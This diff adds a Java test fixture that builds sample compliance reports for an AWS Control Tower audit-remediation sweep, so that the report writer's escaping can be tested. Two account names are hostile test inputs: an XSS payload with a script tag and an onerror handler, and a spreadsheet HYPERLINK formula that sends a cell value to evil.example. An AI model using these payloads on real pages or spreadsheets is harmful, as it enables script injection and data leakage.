@@ -1,0 +1,154 @@
+package com.auditremediation.core.report;
+
+import com.auditremediation.core.error.ErrorCode;
+import com.auditremediation.core.model.AccountStatus;
+import com.auditremediation.core.model.CheckResult;
+import com.auditremediation.core.model.CheckStatus;
+import com.auditremediation.core.model.Mode;
+import com.auditremediation.core.model.Report;
+import com.auditremediation.core.model.ReportRow;
+import com.auditremediation.core.model.RunContext;
+import com.auditremediation.core.model.Summary;
+import java.util.ArrayList;
+import java.util.EnumMap;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.TreeMap;
+
+/**
+ * Reports shaped as BuildReport writes them (rows failures first; summary, failure and check counts derived from the
+ * rows), with names that a member account could choose to attack a spreadsheet or a page.
+ */
+final class SampleReports {
+
+    static final String ROLE = "aws-controltower-AdministratorExecutionRole";
+    static final String HOSTILE_NAME = "<script>document.title='pwned'</script><img src=x onerror=\"alert(1)\">\"' & co";
+    static final String FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    static final String AWKWARD_NAME = "ops, \"shared\"\nsecond line";
+    static final String OU_PROD = "ou-7f3k-q9x2m4ab";
+    static final String OU_SANDBOX = "ou-7f3k-w81hz2cd";
+    static final String ROOT = "r-7f3k";
+
+    private SampleReports() {
+    }
+
+    static String accountId(int i) {
+        return String.valueOf(210_000_000_000L + i * 7_919L);
+    }
+
+    /** Twelve accounts in three OUs: every account status, every check status, two regions, hostile names. */
+    static Report mixed() {
+        List<ReportRow> rows = new ArrayList<>();
+        rows.add(failed(1, "legacy-unenrolled", ROOT, ErrorCode.ROLE_NOT_ASSUMABLE,
+                "Could not assume arn:aws:iam::" + accountId(1) + ":role/" + ROLE + " (AccessDenied). Is the account enrolled in Control Tower?", null));
+        rows.add(failed(2, HOSTILE_NAME, OU_SANDBOX, ErrorCode.ROLE_NOT_ASSUMABLE,
+                "Could not assume the role in " + accountId(2) + " (AccessDenied) <b>bold?</b>", null));
+        rows.add(failed(3, "payments-prod", OU_PROD, ErrorCode.CHECK_FAILED,
+                "Checks that could not complete in " + accountId(3) + ": iam-password-policy (see each check's detail)", List.of(
+                        CheckResult.of("caller-identity", CheckStatus.COMPLIANT, null),
+                        new CheckResult("iam-password-policy", null, CheckStatus.ERROR, "could not read: Iam AccessDenied",
+                                null, null),
+                        regional("ebs-default-encryption", "eu-west-1", CheckStatus.COMPLIANT),
+                        regional("ebs-default-encryption", "us-east-1", CheckStatus.NON_COMPLIANT))));
+        rows.add(failed(4, "search-prod", OU_PROD, ErrorCode.THROTTLED, "sts:AssumeRole was throttled (Throttling) after the SDK's retries", null));
+        rows.add(skipped(5, "management", ROOT, ErrorCode.MANAGEMENT_ACCOUNT, "the management account has no Control Tower execution role"));
+        rows.add(skipped(6, "sandbox-retired", OU_SANDBOX, ErrorCode.ACCOUNT_NOT_ACTIVE, "the account is SUSPENDED, not ACTIVE; only ACTIVE accounts are swept"));
+        rows.add(succeeded(7, "web-prod", OU_PROD, CheckStatus.COMPLIANT));
+        rows.add(succeeded(8, FORMULA_NAME, OU_SANDBOX, CheckStatus.NON_COMPLIANT));
+        rows.add(succeeded(9, AWKWARD_NAME, OU_SANDBOX, CheckStatus.COMPLIANT));
+        rows.add(succeeded(10, "analytics-prod", OU_PROD, CheckStatus.REMEDIATED));
+        rows.add(succeeded(11, "-pricing-dev", OU_SANDBOX, CheckStatus.NON_COMPLIANT));
+        rows.add(succeeded(12, "identity-prod", OU_PROD, CheckStatus.COMPLIANT));
+        return report(rows, 2, null, null);
+    }
+
+    /** {@link #mixed()} as BuildReport trims it when it would not fit: failures and skips only, with the note. */
+    static Report truncated() {
+        Report whole = mixed();
+        List<ReportRow> kept = whole.accounts().stream().filter(row -> row.status() != AccountStatus.SUCCEEDED).toList();
+        return new Report(whole.executionName(), whole.startedAt(), whole.finishedAt(), whole.context(), whole.summary(),
+                whole.failuresByCode(), kept, true, "The report was too large for the execution's output (256 KiB): "
+                + (whole.accounts().size() - kept.size()) + " SUCCEEDED rows were left out; counts cover every account.");
+    }
+
+    /** A generated organisation of {@code count} accounts, a failure every seventh, for screenshots of a longer page. */
+    static Report generated(int count) {
+        List<ReportRow> rows = new ArrayList<>();
+        String[] units = {OU_PROD, OU_SANDBOX, ROOT};
+        for (int i = 1; i <= count; i++) {
+            String name = "workload-" + String.format("%03d", i);
+            String unit = units[i % units.length];
+            rows.add(i % 7 == 0 ? failed(i, name, unit, ErrorCode.ROLE_NOT_ASSUMABLE, "Could not assume the role (AccessDenied)", null)
+                    : succeeded(i, name, unit, i % 5 == 0 ? CheckStatus.NON_COMPLIANT : CheckStatus.COMPLIANT));
+        }
+        rows.sort(java.util.Comparator.comparing(row -> row.status() == AccountStatus.FAILED ? 0 : 1));
+        return report(rows, 0, null, null);
+    }
+
+    static Report report(List<ReportRow> rows, int excluded, Boolean truncated, String note) {
+        Map<ErrorCode, Integer> failures = new TreeMap<>();
+        Map<String, Map<CheckStatus, Integer>> checks = new LinkedHashMap<>();
+        int succeeded = 0;
+        int failed = 0;
+        int skipped = 0;
+        for (ReportRow row : rows) {
+            switch (row.status()) {
+                case SUCCEEDED -> succeeded++;
+                case FAILED -> {
+                    failed++;
+                    failures.merge(row.errorCode(), 1, Integer::sum);
+                }
+                case SKIPPED -> skipped++;
+            }
+            if (row.checks() != null) {
+                row.checks().forEach(check -> checks.computeIfAbsent(check.checkId(), id -> new EnumMap<>(CheckStatus.class))
+                        .merge(check.status(), 1, Integer::sum));
+            }
+        }
+        RunContext context = new RunContext(ROLE, Mode.AUDIT, List.of(), List.of("eu-west-1", "us-east-1"));
+        return new Report("sweep-20250301T100000Z", "2025-03-01T10:00:00.123Z", "2025-03-01T10:04:12.500Z", context,
+                new Summary(rows.size(), succeeded, failed, skipped, excluded, checks), failures, rows, truncated, note);
+    }
+
+    private static ReportRow failed(int i, String name, String ou, ErrorCode code, String message, List<CheckResult> checks) {
+        return new ReportRow(accountId(i), name, ou, AccountStatus.FAILED, code, message, compliance(checks), checks, 200L + i);
+    }
+
+    private static ReportRow skipped(int i, String name, String ou, ErrorCode code, String message) {
+        return new ReportRow(accountId(i), name, ou, AccountStatus.SKIPPED, code, message, null, null);
+    }
+
+    /** Every shipped check; those that can be fixed have {@code status} (EBS in two regions), caller-identity passes. */
+    private static ReportRow succeeded(int i, String name, String ou, CheckStatus status) {
+        boolean compliant = status == CheckStatus.COMPLIANT;
+        List<CheckResult> checks = List.of(
+                new CheckResult("caller-identity", null, CheckStatus.COMPLIANT,
+                        "arn:aws:sts::" + accountId(i) + ":assumed-role/" + ROLE + "/audit-remediation-sweep", null, null),
+                compliant ? CheckResult.of("iam-password-policy", status, null)
+                        : new CheckResult("iam-password-policy", null, status, "password policy below the baseline: MinimumPasswordLength 8 (needs 14 or more)",
+                        Map.of("MinimumPasswordLength", 8), status == CheckStatus.REMEDIATED ? Map.of("MinimumPasswordLength", 14) : null),
+                CheckResult.of("s3-account-public-access-block", CheckStatus.COMPLIANT, null),
+                regional("ebs-default-encryption", "eu-west-1", status),
+                regional("ebs-default-encryption", "us-east-1", CheckStatus.COMPLIANT),
+                compliant ? CheckResult.of("root-account-hygiene", CheckStatus.COMPLIANT, null)
+                        : new CheckResult("root-account-hygiene", null, CheckStatus.NON_COMPLIANT, "a person must enable MFA on the root user",
+                        Map.of("AccountMFAEnabled", 0), null));
+        return new ReportRow(accountId(i), name, ou, AccountStatus.SUCCEEDED, null, null, compliance(checks), checks, 1_200L + i * 13L);
+    }
+
+    private static CheckResult regional(String checkId, String region, CheckStatus status) {
+        return status == CheckStatus.COMPLIANT ? new CheckResult(checkId, region, status, null, null, null)
+                : new CheckResult(checkId, region, status, "new EBS volumes are not encrypted by default in this region",
+                Map.of("EbsEncryptionByDefault", false), status == CheckStatus.REMEDIATED ? Map.of("EbsEncryptionByDefault", true) : null);
+    }
+
+    private static Map<CheckStatus, Integer> compliance(List<CheckResult> checks) {
+        if (checks == null || checks.isEmpty()) {
+            return null;
+        }
+        Map<CheckStatus, Integer> counts = new EnumMap<>(CheckStatus.class);
+        checks.forEach(check -> counts.merge(check.status(), 1, Integer::sum));
+        return counts;
+    }
+}
